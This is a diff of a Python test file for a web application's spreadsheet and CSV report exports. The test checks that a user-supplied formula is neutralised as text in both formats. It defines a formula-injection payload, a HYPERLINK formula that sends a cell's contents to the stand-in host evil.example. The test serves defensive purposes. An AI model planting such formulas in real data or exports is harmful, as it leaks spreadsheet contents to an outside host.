@@ -3,34 +3,30 @@
 import io
 
 from openpyxl import load_workbook
-from sqlalchemy import select
 
-from engine.models import User
-from tests.helpers.report_history import at, start, step
-from tests.web.conftest import login
-from tests.web.test_reports import Q4, csv_rows, csv_tables
-from web.extensions import db
+from tests.web.conftest import api_token, login
+from tests.web.test_reports import csv_rows
 from web.views.reports.export import Table, csv_bytes, xlsx_bytes
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
 
 def test_a_formula_in_start_data_arrives_as_text_in_both_exports(app, client):
-    with app.app_context():
-        prakom = db.session.scalar(select(User).where(User.username == "prakom"))
-        clock = app.config["ALUR_CLOCK"]
-        instance = start(db.session, clock, prakom, "penanganan_gangguan_server", "E",
-                         at(24, 8), {"prioritas": EVIL})
-        step(db.session, clock, instance, prakom, at(24, 8, 30))
-        step(db.session, clock, instance, prakom, at(24, 9, 30), hasil_penanganan="tuntas")
+    # A Prakom's free-text start data (the fault's "sistem") and title, downloaded by the
+    # Kasubbag from the process list.
+    started = client.post("/api/v1/instances", headers=api_token(client, "prakom"), json={
+        "process_key": "penanganan_gangguan_server", "title": EVIL,
+        "data": {"sistem": EVIL, "prioritas": "mayor"}})
+    assert started.status_code == 201, started.json
     login(client, "kasubbag")
-    url = f"/laporan/orang/prakom?{Q4}"
+    url = "/proses/?cakupan=unit"
     workbook = load_workbook(io.BytesIO(client.get(f"{url}&format=xlsx").data))
-    [cell] = [c for row in workbook["MTTR"].iter_rows(min_row=2) for c in row
+    [cell] = [c for row in workbook.worksheets[0].iter_rows(min_row=2) for c in row
               if c.value == EVIL]
-    tables = csv_tables(client, url, workbook.sheetnames)
-    assert tables["MTTR"] == [["Penanganan Gangguan Server", "'" + EVIL, "1", "90,0"]]
     assert cell.data_type == "s" and cell.quotePrefix
+    [row] = csv_rows(client.get(f"{url}&format=csv").data)
+    assert row[1] == "'" + EVIL
+    assert "sistem: " + EVIL in row[-1]
 
 
 def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
